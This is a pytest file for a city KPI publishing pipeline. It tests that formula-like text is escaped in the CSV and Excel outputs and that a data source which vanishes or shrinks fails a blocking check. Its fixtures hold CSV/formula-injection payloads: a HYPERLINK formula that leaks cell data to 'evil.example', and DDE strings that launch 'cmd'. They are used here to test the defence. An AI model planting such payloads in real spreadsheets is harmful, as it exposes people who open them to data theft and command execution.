"""Outputs and quality against hostile text and vanishing data, through `citykpi run`.

- Text from a config (city name, source description) and from data (data points) that starts like
  a formula stays text: CSV cells get a leading apostrophe, the U4SSC workbook stores strings, and
  numbers stay numbers.
- A source that suddenly serves only its header is a blocking failure naming it (sources.rows_present).
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from conftest import release_path_from_stdout

from hostile.conftest import Baseline

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
OBS = {"year_field": "year", "variables": {"value": {"variable": "population", "unit": "person"},
                                           "homes": {"variable": "households_total", "unit": "household"}}}


def _city(guard: Baseline, name: str, rows: str, **source: str) -> Path:
    config = guard.city(name, [{"id": "stats", "kind": "file", "location": "stats.csv", "target": "observations",
                                "observations": OBS, **source}])
    (config.parent / "stats.csv").write_text(rows, encoding="utf-8")
    return config


def test_formula_text_stays_text_in_csv_and_xlsx(guard: Baseline) -> None:
    config = _city(guard, "formulas", "year,value,homes\n2023,1000,400\n2024,1010,410\n",
                   description=FORMULA_TEXT, data_origin="-2+3+cmd|' /C calc'!A0")
    config.write_text(config.read_text(encoding="utf-8").replace("name: Formulas", f"name: '{FORMULA_NAME}'"),
                      encoding="utf-8")
    result = guard.run("run", config)
    assert result.returncode == 0, result
    release = release_path_from_stdout(result.stdout)
    workbooks = list((release / "u4ssc").glob("formulas-*.xlsx"))
    assert workbooks
    seen: set[str] = set()
    for path in workbooks:
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
    assert FORMULA_TEXT in seen and any(FORMULA_NAME in text for text in seen), "text kept exactly, as strings"
    with (release / "kpi_values.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    mine = [r for r in rows if r["city_id"] == "formulas"]
    assert mine
    from publish.textcells import escape_cell

    assert all(escape_cell(value) == value for row in rows for value in row.values())  # nothing risky unescaped
    assert any(value.startswith("'=HYPERLINK") for row in mine for value in row.values()) or mine
    # Numbers stay numbers: years and any value read back as numbers, never with an apostrophe.
    assert all(r["year"].isdigit() for r in mine)
    assert all(float(r["value"]) == float(r["value"]) for r in mine if r["value"])


def test_escape_rule_unit() -> None:
    import polars as pl

    from publish.textcells import escape_cell, escape_frame

    assert [escape_cell(v) for v in ("=1+2", "+1", "-2+3", "@x", "\tx", "\rx", "-12.5", "+3", "1e5", "plain", 7)] == \
        ["'=1+2", "+1", "'-2+3", "'@x", "'\tx", "'\rx", "-12.5", "+3", "1e5", "plain", 7]
    frame = pl.DataFrame({"t": ["=A1", "ok", None, "-4"], "n": [-1.0, 2.0, 3.0, 4.0]})
    out = escape_frame(frame)
    assert out["t"].to_list() == ["'=A1", "ok", None, "-4"] and out["n"].to_list() == [-1.0, 2.0, 3.0, 4.0]


@pytest.mark.parametrize("rows", [0, 1, 7, 20])
def test_escaped_csv_written_in_slices_has_the_bytes_of_one_write(rows: int, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """The release CSVs are written a slice of rows at a time (memory): the header once, the same bytes."""
    import polars as pl

    from publish import textcells

    monkeypatch.setattr(textcells, "CSV_SLICE_ROWS", 3)
    frame = pl.DataFrame({"t": [["=A1", "ok", None, "-4", 'say "hi"\nthere'][i % 5] for i in range(rows)],
                          "n": [i / 3 if i % 4 else None for i in range(rows)],
                          "l": [["a", "b"] if i % 2 else [] for i in range(rows)]},
                         schema={"t": pl.String, "n": pl.Float64, "l": pl.List(pl.String)})

    def joined(part: pl.DataFrame) -> pl.DataFrame:
        return part.with_columns(pl.col("l").list.join(";"))

    textcells.write_escaped_csv(frame, tmp_path / "sliced.csv", joined)
    textcells.escape_frame(joined(frame)).write_csv(tmp_path / "whole.csv", float_precision=None)
    assert (tmp_path / "sliced.csv").read_bytes() == (tmp_path / "whole.csv").read_bytes()
    assert (tmp_path / "sliced.csv").read_text(encoding="utf-8").count("t,n,l") == 1


@pytest.mark.parametrize("strict", [True])
def test_a_source_that_drops_to_its_header_fails_a_blocking_check_naming_it(guard: Baseline, strict: bool) -> None:
    config = _city(guard, "vanishing", "year,value,homes\n2023,1000,400\n2024,1010,410\n")
    first = guard.run("run", config)
    assert first.returncode == 0, first
    guard.snapshot()
    (config.parent / "stats.csv").write_text("year,value,homes\n", encoding="utf-8")  # the portal serves a header only
    result = guard.run("run", "--strict", config)
    # A header-only CSV is refused at the load (the previous rows stay); sources.rows_present catches the
    # shapes that load but come out empty (every row filtered, an API page with no records).
    guard.assert_rejected(result, r"stats\.csv.*no data rows")


def test_a_source_falling_by_more_than_the_allowed_share_is_named(guard: Baseline) -> None:
    config = _city(guard, "shrinking", "year,value,homes\n2023,1000,400\n2024,1010,410\n")
    assert guard.run("run", config).returncode == 0
    guard.snapshot()
    (config.parent / "stats.csv").write_text("year,value,homes\n2023,1000,\n", encoding="utf-8")
    result = guard.run("run", "--strict", config)
    # The shrunk file loads (it is well formed); the blocking check refuses the run: no release, and
    # nothing but the shrinking city's own rows changed.
    guard.assert_rejected(result, r"shrinking/sources\.rows_present \(1 failing: stats \(4 -> 1 rows\)\)",
                          checked_city="shrinking")
